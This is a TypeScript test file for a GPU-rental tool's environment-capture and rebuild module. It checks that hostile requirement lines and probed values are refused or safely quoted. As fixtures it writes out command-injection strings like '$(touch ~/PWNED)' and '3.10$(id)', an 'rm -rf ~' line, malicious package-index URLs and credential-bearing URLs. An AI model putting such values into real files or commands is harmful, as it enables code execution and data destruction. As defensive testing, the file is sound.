// The capture folder both front ends read and write (src/app/environment.ts), and what a rebuild
// accepts from it: the three formats read back, the user's edits win, requirement lines other
// than plain packages are refused unless allowed, and no probed value reaches the script unquoted.
import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CaptureReadError, checkRebuild, listCaptures, planRebuild, readCapture, writeCapture, type EnvCapture } from '../../src/app/environment';
import { checkRequirements, pythonMinorOf } from '../../src/core/guards/environment';
import { checkEnvironmentYml } from '../../src/remote/guards/environment-yml';

const capture: EnvCapture = {
  capturedAt: 1_800_000_000,
  source: 'root@connect.example:12345',
  pythonVersion: '3.10.13',
  condaEnv: 'myenv',
  torch: '2.1.2+cu121',
  torchCuda: '12.1',
  driverVersion: '535.86.05',
  driverMaxCuda: '12.2',
  gpus: ['NVIDIA GeForce RTX 4090'],
  environmentYml: ['name: myenv', 'channels:', '  - defaults', 'dependencies:', '  - python=3.10.13', '  - pip:', '    - numpy==1.26.4', '    - torch==2.1.2+cu121', 'prefix: /root/miniconda3/envs/myenv', ''].join('\n'),
  requirements: ['numpy==1.26.4', 'torch==2.1.2+cu121', 'peft==0.7.1', ''].join('\n'),
};
const driver = { version: '535.86.05', maxCuda: '12.2' };

function fileOf(plan: ReturnType<typeof planRebuild>, name: string): string {
  assert.ok(plan.ok, JSON.stringify(plan));
  return plan.files.find((f) => f.name === name)!.text;
}

describe('app/environment: one capture folder', () => {
  let work: string;
  beforeEach(() => (work = mkdtempSync(join(tmpdir(), 'gpr-env-'))));
  afterEach(() => rmSync(work, { recursive: true, force: true }));

  it('writes format 2 (facts in gpu-rent-env.json, packages in the files beside it) and reads it back', async () => {
    const dir = join(work, 'cap');
    const w = await writeCapture(dir, capture);
    assert.deepEqual(w.files, ['gpu-rent-env.json', 'requirements.txt', 'environment.yml']);
    const json = JSON.parse(readFileSync(join(dir, 'gpu-rent-env.json'), 'utf8'));
    assert.equal(json.format, 'gpu-rent-env');
    assert.equal(json.version, 2);
    assert.equal(json.requirements, undefined, 'one copy of the packages: the file');
    const r = await readCapture(dir);
    assert.equal(r.format, 'gpu-rent-env@2');
    assert.deepEqual(r.capture, capture);
    assert.deepEqual(r.from, { requirements: 'file', environmentYml: 'file' });
  });

  it('reads the extension’s old snapshot.json folder and the CLI’s old gpu-rent-env.json, edits beside them winning', async () => {
    const v1 = { version: 1, ...capture };
    const ext = join(work, '.gpu-rent', 'env', 'box-a');
    mkdirSync(ext, { recursive: true });
    writeFileSync(join(ext, 'snapshot.json'), JSON.stringify(v1, null, 2) + '\n');
    writeFileSync(join(ext, 'requirements.txt'), 'numpy==1.26.4\nrich==13.7.0\n'); // edited: peft out, rich in
    const cli = join(work, 'gpu-rent-env');
    mkdirSync(cli);
    writeFileSync(join(cli, 'gpu-rent-env.json'), JSON.stringify(v1, null, 2) + '\n');
    writeFileSync(join(cli, 'environment.yml'), 'name: x\ndependencies:\n  - python=3.10\n');
    const a = await readCapture(ext);
    assert.equal(a.format, 'snapshot@1');
    assert.equal(a.capture.requirements, 'numpy==1.26.4\nrich==13.7.0\n');
    assert.equal(a.capture.environmentYml, capture.environmentYml, 'no file beside it: the copy inside');
    assert.deepEqual(a.from, { requirements: 'file', environmentYml: 'inline' });
    const b = await readCapture(cli);
    assert.equal(b.format, 'gpu-rent-env@1');
    assert.equal(b.capture.requirements, capture.requirements);
    assert.equal(b.capture.environmentYml, 'name: x\ndependencies:\n  - python=3.10\n');
    // The rebuild uploads the edited list.
    assert.equal(fileOf(planRebuild(a.capture, { envName: 'moved', targetDriver: driver }), 'requirements.txt'), 'numpy==1.26.4\nrich==13.7.0\n');
    // The extension's picker finds old and new folders alike.
    await writeCapture(join(work, '.gpu-rent', 'env', 'box-b'), capture);
    mkdirSync(join(work, '.gpu-rent', 'env', 'empty'));
    assert.deepEqual(
      (await listCaptures(join(work, '.gpu-rent', 'env'))).map((c) => [c.name, c.file.split('/').pop()]),
      [
        ['box-a', 'snapshot.json'],
        ['box-b', 'gpu-rent-env.json'],
      ],
    );
  });

  it('an edited requirements.txt and environment.yml in format 2 are what the rebuild uploads; a deleted yml means none', async () => {
    const dir = join(work, 'cap');
    await writeCapture(dir, capture);
    writeFileSync(join(dir, 'requirements.txt'), '# mine\nnumpy==2.0.0\ntransformers>=4.40,<5  # pinned loosely\naccelerate[deepspeed]==0.30.1\ntorch==2.3.0\n');
    const r = await readCapture(dir);
    const plan = planRebuild(r.capture, { envName: 'moved', targetDriver: driver });
    assert.equal(fileOf(plan, 'requirements.txt'), 'numpy==2.0.0\ntransformers>=4.40,<5  # pinned loosely\naccelerate[deepspeed]==0.30.1\n', 'torch is reinstalled for the driver, not from the list');
    assert.ok(plan.ok && plan.inputs.requirements.dropped.some((d) => d.reason === 'torchFamily' && d.text === 'torch==2.3.0'));
    rmSync(join(dir, 'environment.yml'));
    const noYml = planRebuild((await readCapture(dir)).capture, { envName: 'moved', targetDriver: driver });
    assert.ok(noYml.ok && !noYml.files.some((f) => f.name === 'environment.yml'));
    assert.ok(!fileOf(noYml, 'rebuild.sh').includes('conda env update'));
  });

  it('tells a folder with no capture, bad JSON and a wrong shape apart', async () => {
    await assert.rejects(readCapture(work), (e: unknown) => e instanceof CaptureReadError && e.code === 'noCapture');
    writeFileSync(join(work, 'gpu-rent-env.json'), '{nope');
    await assert.rejects(readCapture(work), (e: unknown) => e instanceof CaptureReadError && e.code === 'notJson');
    writeFileSync(join(work, 'gpu-rent-env.json'), JSON.stringify({ format: 'gpu-rent-env', version: 2, source: 1 }));
    await assert.rejects(readCapture(work), (e: unknown) => e instanceof CaptureReadError && e.code === 'invalid' && e.problems.some((p) => p.path === 'source' && p.problem === 'wrongType'));
    writeFileSync(join(work, 'gpu-rent-env.json'), JSON.stringify({ ...capture, version: 3 }));
    await assert.rejects(readCapture(work), (e: unknown) => e instanceof CaptureReadError && e.problems.some((p) => p.path === 'version' && p.problem === 'unsupportedVersion'));
  });
});

describe('app/environment: what a rebuild accepts', () => {
  it('plain requirement lines pass; pip options, credentials in URLs and other syntax are refused', () => {
    const plain = [
      'numpy==1.26.4',
      'Requests[socks,security] >= 2.31, < 3',
      'typing_extensions; python_version < "3.11"',
      'foo (>=1.0)',
      'bar @ https://files.example.invalid/bar-1.0-py3-none-any.whl#sha256=0123abcd',
      'baz',
      'qux==1.0+local.1  # why',
      '# a comment',
      '',
    ];
    const ok = checkRequirements(plain.join('\n'));
    assert.deepEqual(ok.problems, []);
    assert.equal(ok.kept, 7);
    const hostile = [
      '--extra-index-url https://evil.example.invalid/simple',
      '-i https://evil.example.invalid/simple',
      '--index-url=https://evil.example.invalid/simple',
      '-r other.txt',
      '-c constraints.txt',
      '-f https://evil.example.invalid/wheels',
      '--trusted-host evil.example.invalid',
      '-e git+https://example.invalid/x.git#egg=x',
      'numpy==1.26.4 --hash=sha256:abcd',
      'pkg @ https://user:s3cret@example.invalid/pkg.whl',
      `pkg @ https://ghp_0123456789abcdefghijklmnopqrstuvwxyzAB@example.invalid/pkg.whl`,
      'https://example.invalid/pkg.whl',
      'pkg @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}.whl',
      'numpy==1.26.4 \\',
      '$(touch ~/PWNED)',
    ];
    const bad = checkRequirements(['numpy==1.0', ...hostile].join('\n'));
    assert.deepEqual(
      bad.problems.map((p) => [p.line, p.kind]),
      [
        [2, 'pipOption'],
        [3, 'pipOption'],
        [4, 'pipOption'],
        [5, 'pipOption'],
        [6, 'pipOption'],
        [7, 'pipOption'],
        [8, 'pipOption'],
        [9, 'pipOption'],
        [10, 'pipOption'],
        [11, 'credentialUrl'],
        [12, 'credentialUrl'],
        [13, 'notARequirement'],
        [14, 'notARequirement'],
        [15, 'notARequirement'],
        [16, 'notARequirement'],
      ],
    );
    assert.ok(!bad.problems.some((p) => p.text.includes('s3cret') || p.text.includes('ghp_0123')), 'credentials are masked in messages');
    // The user said yes: the lines go as written.
    const allowed = checkRequirements(['numpy==1.0', ...hostile.slice(0, 3)].join('\n'), { allowPipOptions: true });
    assert.deepEqual(allowed.problems, []);
    assert.equal(allowed.text, ['numpy==1.0', ...hostile.slice(0, 3)].join('\n') + '\n');
    // Left out as before: a folder on the old box.
    const local = checkRequirements('-e /root/code/mypkg\nmkl-service @ file:///croot/mkl\nnumpy==1\n');
    assert.deepEqual(local.problems, []);
    assert.deepEqual(local.dropped.map((d) => d.reason), ['localPath', 'localPath']);
    assert.equal(local.text, 'numpy==1\n');
  });

  it('environment.yml: pip items are checked the same way, and a private channel token is refused', () => {
    const yml = ['name: x', 'channels:', '  - https://user:tok@conda.example.invalid/channel', '  - defaults', 'dependencies:', '  - numpy', '  - pip:', '    - --extra-index-url https://evil.example.invalid/simple', '    - "peft==0.7.1"', '  - scipy', ''].join('\n');
    assert.deepEqual(
      checkEnvironmentYml(yml).map((p) => [p.line, p.kind]),
      [
        [3, 'credentialUrl'],
        [8, 'pipOption'],
      ],
    );
    assert.deepEqual(checkEnvironmentYml(yml, { allowPipOptions: true }), []);
    const r = checkRebuild({ ...capture, environmentYml: yml }, { envName: 'moved' });
    assert.equal(r.problems.length, 2);
  });

  it('a hostile probed Python version is refused, never written into the script', () => {
    for (const v of ['3;touch ~/PWNED;#.1', '3.10$(id)', '3.10\nrm -rf ~', '', '3', 'python3.10']) {
      assert.equal(pythonMinorOf(v), null, v);
      const plan = planRebuild({ ...capture, pythonVersion: v }, { envName: 'moved', targetDriver: driver });
      assert.ok(!plan.ok && plan.problems.some((p) => p.kind === 'badValue' && p.field === 'pythonVersion'), v);
    }
    for (const [v, m] of [['3.10.13', '3.10'], ['3.12.0rc1', '3.12'], ['3.11.4+', '3.11'], ['2.7.18', '2.7']]) assert.equal(pythonMinorOf(v!), m);
    assert.ok(!planRebuild(capture, { envName: 'a;b', targetDriver: driver }).ok);
  });

  it('every value in the script is quoted: sh reads back exactly the values, and a hostile source runs nothing', () => {
    const hostile = { ...capture, source: "x'$(touch PWNED)`touch PWNED`\n touch PWNED #" };
    const script = fileOf(planRebuild(hostile, { envName: 'moved.v2', targetDriver: driver }), 'rebuild.sh');
    assert.ok(script.includes("NAME=moved.v2\n") || script.includes("NAME='moved.v2'\n"), script);
    assert.ok(script.includes("PYTHON_SPEC='python=3.10'"), script);
    assert.match(script, /"\$PY" -m pip install 'torch==2\.1\.2' 'torchvision==0\.16\.2' 'torchaudio==2\.1\.2' --index-url https:\/\/download\.pytorch\.org\/whl\/cu121\n/);
    assert.doesNotMatch(script, /\$\(touch|`touch|\n touch/);
    // Run the script's head in a real shell, with conda and python stubbed out: no PWNED, and the stubs see the exact words.
    const dir = mkdtempSync(join(tmpdir(), 'gpr-env-sh-'));
    try {
      const bin = join(dir, 'bin');
      mkdirSync(bin);
      writeFileSync(join(bin, 'conda'), '#!/bin/sh\nif [ "$1" = info ]; then echo "$STUB"; exit 0; fi\nif [ "$1" = env ] && [ "$2" = list ]; then exit 0; fi\nprintf "%s\\n" "$@" >> "$STUB/conda-args"\n', { mode: 0o755 });
      mkdirSync(join(dir, 'envs', 'moved.v2', 'bin'), { recursive: true });
      writeFileSync(join(dir, 'envs', 'moved.v2', 'bin', 'python'), '#!/bin/sh\nprintf "%s\\n" "$@" >> "$STUB/python-args"\n', { mode: 0o755 });
      writeFileSync(join(dir, 'rebuild.sh'), script, { mode: 0o755 });
      writeFileSync(join(dir, 'requirements.txt'), 'numpy==1.26.4\n');
      writeFileSync(join(dir, 'environment.yml'), 'name: moved.v2\n');
      execFileSync('bash', [join(dir, 'rebuild.sh')], { cwd: dir, env: { ...process.env, PATH: `${bin}:${process.env.PATH}`, STUB: dir, HOME: dir } });
      assert.equal(existsSync(join(dir, 'PWNED')), false);
      assert.deepEqual(readFileSync(join(dir, 'conda-args'), 'utf8').split('\n').slice(0, 5), ['create', '-y', '-n', 'moved.v2', 'python=3.10']);
      const py = readFileSync(join(dir, 'python-args'), 'utf8');
      assert.ok(py.includes(`-m\npip\ninstall\n-r\n${dir}/requirements.txt\n`), py);
      assert.ok(py.includes('-m\npip\ninstall\ntorch==2.1.2\ntorchvision==0.16.2\ntorchaudio==2.1.2\n--index-url\nhttps://download.pytorch.org/whl/cu121\n'), py);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
